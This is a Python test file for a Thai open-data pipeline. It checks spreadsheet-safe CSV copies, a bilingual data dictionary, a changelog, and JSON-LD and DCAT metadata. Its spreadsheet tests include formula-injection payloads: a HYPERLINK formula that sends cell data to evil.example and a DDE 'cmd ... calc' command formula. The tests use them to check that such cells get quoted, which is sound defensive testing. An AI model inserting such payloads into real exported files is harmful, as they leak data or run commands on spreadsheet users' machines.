"""The files generated beside the tables (pipeline/build/extras.py): spreadsheet copies, data
dictionary, changelog, schema.org JSON-LD and DCAT. Built from the real sources/ into a temporary
directory; nothing here touches datapackage/ or the network.
"""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import shutil
from pathlib import Path

import pytest
import rdflib

from pipeline.build import build, extras, spreadsheet
from pipeline.build.dictionary import md_cell
from pipeline.build.schemas import load_schema
from pipeline.build.write import render_csv
from pipeline.publish.local import read_package
from pipeline.validate import validate_package

ROOT = Path(__file__).resolve().parents[2]
# Open namespaces: pytest probes module globals, and rdflib's closed ones warn on unknown names.
SPDX = rdflib.Namespace("http://spdx.org/rdf/terms#")
DCAT = rdflib.Namespace("http://www.w3.org/ns/dcat#")
DCTERMS = rdflib.Namespace("http://purl.org/dc/terms/")
RDF_TYPE = rdflib.URIRef("http://www.w3.org/1999/02/22-rdf-syntax-ns#type")
XSD_DATE = rdflib.URIRef("http://www.w3.org/2001/XMLSchema#date")
EXTRA_PATHS = {
    "data-dictionary.md",
    "data-dictionary.html",
    "CHANGELOG.md",
    "metadata/dataset.jsonld",
    "metadata/dcat.ttl",
}


@pytest.fixture(scope="module")
def package(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("build") / "datapackage"
    build(ROOT / "sources", out)
    return out


@pytest.fixture(scope="module")
def descriptor(package) -> dict:
    return json.loads((package / "datapackage.json").read_text("utf-8"))


def tables_of_record(descriptor: dict) -> list[dict]:
    return [r for r in descriptor["resources"] if r.get("format") == "csv" and isinstance(r.get("schema"), dict)]


def files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


# --- determinism -----------------------------------------------------------------------------------


def test_every_extra_is_in_the_package_with_its_size_and_hash(package, descriptor):
    listed = {r["path"]: r for r in descriptor["resources"]}
    expected = EXTRA_PATHS | {f"data/excel/{r['name']}.csv" for r in tables_of_record(descriptor)}
    assert expected <= listed.keys()
    for path in expected:
        data = (package / path).read_bytes()
        assert listed[path]["bytes"] == len(data)
        assert listed[path]["hash"] == f"sha256:{hashlib.sha256(data).hexdigest()}"


def test_same_sources_give_byte_identical_files(package, tmp_path):
    """A second build from scratch, and a rebuild over the first, give the same bytes everywhere."""
    again = tmp_path / "again"
    build(ROOT / "sources", again)
    assert files(again) == files(package)
    rebuilt = tmp_path / "rebuilt"
    shutil.copytree(package, rebuilt)
    build(ROOT / "sources", rebuilt)
    assert files(rebuilt) == files(package)


def test_render_is_a_pure_function(descriptor):
    tables = {"awards": [injected_award()], "changelog": []}
    first = extras.render(tables, minimal_descriptor())
    second = extras.render(json.loads(json.dumps(tables)), minimal_descriptor())
    assert [(p, d) for p, d, _ in first] == [(p, d) for p, d, _ in second]


def test_package_with_extras_is_valid_and_publishable(package, descriptor):
    assert validate_package(package).valid
    local = {f.name: f for f in read_package(package).files}
    assert local["data-dictionary.html"].format == "HTML"
    assert local["metadata/dataset.jsonld"].format == "JSON-LD"
    assert local["metadata/dcat.ttl"].format == "RDF"
    assert local["CHANGELOG.md"].format == "Markdown"
    for table in tables_of_record(descriptor):
        excel = local[f"data/excel/{table['name']}.csv"]
        assert excel.format == "CSV" and not excel.datastore_candidate  # only the record goes to the DataStore
        assert local[table["path"]].datastore_candidate


# --- spreadsheet copies ----------------------------------------------------------------------------

EVIL = {
    "evidence_text": '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "award_name_en": "+66 2 123 4567",
    "level": "-1",
    "award_name_th": "@SUM(1+1)*cmd|' /C calc'!A0",
    "representative_id": "\tperson",
    "curation": "\rnote",
}


def injected_award() -> dict:
    return {
        "award_id": "award-0001",
        "event_id": "digital-government-awards-2023",
        "recipient_id": "ind-office-of-the-permanent-secretary",
        "confidence": 0.9,
        "source_count": 1,
        "source_id": "thaigov-news-75771",
        "evidence_start": -1,
        "evidence_end": 10,
        **EVIL,
    }


def minimal_descriptor() -> dict:
    schema = load_schema("awards")
    title, description = schema.pop("title"), schema.pop("description")
    return {
        "name": "test-package",
        "title": "ชุดทดสอบ / Test package",
        "version": "1.0.0",
        "last_updated_date": "2024-01-02",
        "licenses": [{"name": "open-data-common", "title": "Open Data Common", "path": "https://data.go.th/"}],
        "resources": [
            {
                "name": "awards",
                "path": "data/awards.csv",
                "format": "csv",
                "title": title,
                "description": description,
                "schema": schema,
                "bytes": 1,
                "hash": "sha256:" + "0" * 64,
            },
        ],
    }


def excel_rows(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
    text = data.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_starts_are_quoted_and_numbers_are_not():
    rendered = {p: d for p, d, _ in extras.render({"awards": [injected_award()]}, minimal_descriptor())}
    row = excel_rows(rendered["data/excel/awards.csv"])[0]
    for name, value in EVIL.items():
        assert row[name] == "'" + value, name
    assert row["evidence_start"] == "-1"  # an integer column: a number, not a formula
    assert row["confidence"] == "0.9" and row["award_id"] == "award-0001"


def test_spreadsheet_copy_is_the_record_except_bom_and_quotes():
    fields = load_schema("awards")["fields"]
    rows = [injected_award(), {**injected_award(), "award_id": "award-0002", **dict.fromkeys(EVIL, "ปกติ")}]
    record = render_csv(rows, [f["name"] for f in fields])
    copy = spreadsheet.render(rows, fields)
    unquoted = [{k: v[1:] if k in EVIL and v.startswith("'") else v for k, v in r.items()} for r in excel_rows(copy)]
    assert unquoted == list(csv.DictReader(io.StringIO(record.decode("utf-8"), newline="")))
    assert excel_rows(copy)[1]["level"] == "ปกติ"  # Thai text untouched
    assert not record.startswith(b"\xef\xbb\xbf") and b"'=" not in record  # the data of record is never changed


@pytest.mark.parametrize(
    ("text", "kind", "safe"),
    [
        ("=1+1", "string", "'=1+1"),
        ("-1", "string", "'-1"),
        ("-1", "integer", "-1"),
        ("+66", "number", "+66"),
        ("-1+cmd|' /C calc'!A0", "number", "'-1+cmd|' /C calc'!A0"),
        ("@x", "date", "'@x"),
        ("ok = fine", "string", "ok = fine"),
        ("", "string", ""),
    ],
)
def test_safe_cell(text, kind, safe):
    assert spreadsheet.safe_cell(text, kind) == safe


def test_every_spreadsheet_copy_matches_its_table(package, descriptor):
    for table in tables_of_record(descriptor):
        record = list(csv.DictReader((package / table["path"]).open(encoding="utf-8", newline="")))
        copy = excel_rows((package / f"data/excel/{table['name']}.csv").read_bytes())
        assert len(copy) == len(record) and (not copy or list(copy[0]) == list(record[0]))


# --- data dictionary -------------------------------------------------------------------------------


def test_dictionary_covers_every_field_of_every_schema_in_both_languages(package, descriptor):
    md = (package / "data-dictionary.md").read_text("utf-8")
    page = (package / "data-dictionary.html").read_text("utf-8")
    tables = tables_of_record(descriptor)
    assert {t["name"] for t in tables} >= {"awards", "organizations", "events", "sources", "changelog"}
    for table in tables:
        th_title, en_title = table["title"].split(" / ", 1)
        assert f"`{table['name']}`: {th_title} / {en_title}" in md
        assert f'id="table-{table["name"]}"' in page
        section = md.split(f"\n## `{table['name']}`:", 1)[1].split("\n## ", 1)[0]
        for field in table["schema"]["fields"]:
            th, en = field["description"].split(" / ", 1)
            row = next(line for line in section.splitlines() if line.startswith(f"| `{field['name']}` |"))
            assert md_cell(th) in row, (table["name"], field["name"])
            assert md_cell(en) in row and f"`{field['type']}`" in row, (table["name"], field["name"])
            assert f"<code>{html.escape(field['name'])}</code>" in page
            assert html.escape(th) in page and html.escape(en) in page, (table["name"], field["name"])


def test_dictionary_shows_constraints_and_keys(package):
    md = (package / "data-dictionary.md").read_text("utf-8")
    assert "คีย์หลัก / Primary key: `award_id`" in md
    assert "`recipient_id` → `organizations.organization_id`" in md
    assert "ต้องมีค่า / required" in md and "รูปแบบ / pattern `^[a-z0-9][a-z0-9._-]*$`" in md


def test_dictionary_html_is_well_formed_and_self_contained(package):
    from html.parser import HTMLParser

    page = (package / "data-dictionary.html").read_text("utf-8")

    class Checker(HTMLParser):
        VOID = frozenset({"meta", "br", "link", "img"})

        def __init__(self):
            super().__init__()
            self.stack: list[str] = []

        def handle_starttag(self, tag, attrs):
            assert not (tag in ("script", "link") or any(k == "src" for k, _ in attrs)), tag
            if tag not in self.VOID:
                self.stack.append(tag)

        def handle_endtag(self, tag):
            assert self.stack.pop() == tag

    checker = Checker()
    checker.feed(page)
    assert checker.stack == []
    assert page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page


def test_dictionary_escapes_markup():
    descriptor = minimal_descriptor()
    descriptor["resources"][0]["schema"]["fields"][0]["description"] = "ไทย <b>|x / English <script>|y"
    rendered = {p: d.decode() for p, d, _ in extras.render({"awards": []}, descriptor)}
    assert "<script>" not in rendered["data-dictionary.html"] and "&lt;script&gt;" in rendered["data-dictionary.html"]
    assert "<b>\\|x" in rendered["data-dictionary.md"]  # a pipe must not split the Markdown table row


# --- changelog -------------------------------------------------------------------------------------


def test_changelog_markdown_lists_every_change(package, descriptor):
    text = (package / "CHANGELOG.md").read_text("utf-8")
    rows = list(csv.DictReader((package / "data/changelog.csv").open(encoding="utf-8", newline="")))
    assert rows and f"Current version: **{descriptor['version']}**" in text
    for row in rows:
        assert f"## {row['version']} ({row['date']})" in text
        assert f"| `{row['table']}` | {row['added']} | {row['removed']} | {row['changed']} |" in text
    added = sum(int(r["added"]) for r in rows if r["version"] == descriptor["version"])
    assert f"| **รวม / Total** | **{added}** |" in text


def test_changelog_markdown_newest_version_first():
    from pipeline.build import history

    rows = [
        {"version": "1.9.0", "date": "2024-01-01", "table": "awards", "added": 1, "removed": 0, "changed": 0},
        {"version": "1.10.0", "date": "2024-02-01", "table": "awards", "added": 0, "removed": 2, "changed": 1},
    ]
    text = history.render(rows, {"version": "1.10.0"}).decode()
    assert text.index("## 1.10.0 (2024-02-01)") < text.index("## 1.9.0 (2024-01-01)")


# --- discovery metadata ----------------------------------------------------------------------------


def resolve(package: Path, url: str) -> Path:
    path = (package / "metadata" / url).resolve()
    assert path.is_relative_to(package.resolve()) and path.is_file(), url
    return path


def test_jsonld_is_a_schema_org_dataset(package, descriptor):
    data = json.loads((package / "metadata/dataset.jsonld").read_text("utf-8"))
    assert data["@context"] == "https://schema.org/" and data["@type"] == "Dataset"
    assert data["name"] == descriptor["title"] and data["description"] == descriptor["description"]
    assert data["license"]["name"] == "Open Data Common" and data["license"]["url"].startswith("https://")
    assert data["dateModified"] == descriptor["last_updated_date"] and data["version"] == descriptor["version"]
    start, end = data["temporalCoverage"].split("/")
    assert start <= end and len(start) == len(end) == 10
    assert set(data["keywords"]) == set(descriptor["keywords"])
    urls = {d["contentUrl"] for d in data["distribution"]}
    assert {"../data/awards.csv", "../data/awards.json", "../data/excel/awards.csv", "../datapackage.json"} <= urls
    for dist in data["distribution"]:
        path = resolve(package, dist["contentUrl"])
        if "sha256" in dist:
            assert hashlib.sha256(path.read_bytes()).hexdigest() == dist["sha256"]
            assert dist["contentSize"] == f"{path.stat().st_size} B"
    fields = {v["name"] for v in data["variableMeasured"]}
    assert {f"{t['name']}.{f['name']}" for t in tables_of_record(descriptor) for f in t["schema"]["fields"]} == fields


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # rdflib's JSON-LD parser uses ConjunctiveGraph
def test_jsonld_is_valid_json_ld(package):
    """Parsed as RDF (the schema.org context inlined as @vocab: no network)."""
    data = json.loads((package / "metadata/dataset.jsonld").read_text("utf-8"))
    data["@context"] = {"@vocab": "https://schema.org/"}
    graph = rdflib.Graph().parse(data=json.dumps(data), format="json-ld")
    schema = rdflib.Namespace("https://schema.org/")
    datasets = list(graph.subjects(RDF_TYPE, schema.Dataset))
    assert len(datasets) == 1
    assert len(list(graph.objects(datasets[0], schema.distribution))) == len(data["distribution"])


def test_dcat_turtle_parses_and_describes_every_distribution(package, descriptor):
    graph = rdflib.Graph().parse(package / "metadata/dcat.ttl", format="turtle")
    datasets = list(graph.subjects(RDF_TYPE, DCAT["Dataset"]))
    assert len(datasets) == 1
    ds = datasets[0]
    titles = {(str(t), t.language) for t in graph.objects(ds, DCTERMS["title"])}
    assert {lang for _, lang in titles} == {"th", "en"}
    assert graph.value(ds, DCTERMS["identifier"]).toPython() == descriptor["name"]
    assert str(graph.value(ds, rdflib.OWL.versionInfo)) == descriptor["version"]
    modified = graph.value(ds, DCTERMS["modified"])
    assert modified.datatype == XSD_DATE and str(modified) == descriptor["last_updated_date"]
    period = graph.value(ds, DCTERMS["temporal"])
    assert graph.value(period, DCAT["startDate"]) <= graph.value(period, DCAT["endDate"])
    keywords = {str(k) for k in graph.objects(ds, DCAT["keyword"])}
    assert keywords == set(descriptor["keywords"])
    distributions = list(graph.objects(ds, DCAT["distribution"]))
    assert len(distributions) >= 3 * len(tables_of_record(descriptor)) + 1
    for dist in distributions:
        assert (dist, RDF_TYPE, DCAT["Distribution"]) in graph
        url = str(graph.value(dist, DCAT["downloadURL"]))
        assert url.startswith((package.resolve().as_uri(), "file://")), url
        path = Path(url.removeprefix("file://"))
        assert path.is_file() and path.resolve().is_relative_to(package.resolve()), url
        assert graph.value(dist, DCAT["mediaType"]) and graph.value(dist, DCTERMS["format"])
        checksum = graph.value(dist, SPDX["checksum"])
        if checksum is not None:
            assert str(graph.value(checksum, SPDX["checksumValue"])) == hashlib.sha256(path.read_bytes()).hexdigest()
            assert int(graph.value(dist, DCAT["byteSize"])) == path.stat().st_size


def test_dcat_escapes_literals_and_iris():
    from pipeline.build import discovery

    descriptor = minimal_descriptor()
    descriptor["description"] = 'ไทย "อ้าง" \\ บรรทัด\nสอง\n\nEnglish "quoted"\ttab'
    descriptor["sources"] = [{"title": "x", "path": 'https://example.org/a b<c>?q="1"'}]
    rendered = {p: d for p, d, _ in extras.render({"awards": []}, descriptor)}
    graph = rdflib.Graph().parse(data=rendered[discovery.DCAT_PATH].decode(), format="turtle")
    ds = next(graph.subjects(RDF_TYPE, DCAT["Dataset"]))
    descriptions = {d.language: str(d) for d in graph.objects(ds, DCTERMS["description"])}
    assert descriptions == {"th": 'ไทย "อ้าง" \\ บรรทัด\nสอง', "en": 'English "quoted"\ttab'}
    assert str(graph.value(ds, DCTERMS["source"])) == "https://example.org/a%20b%3Cc%3E?q=%221%22"
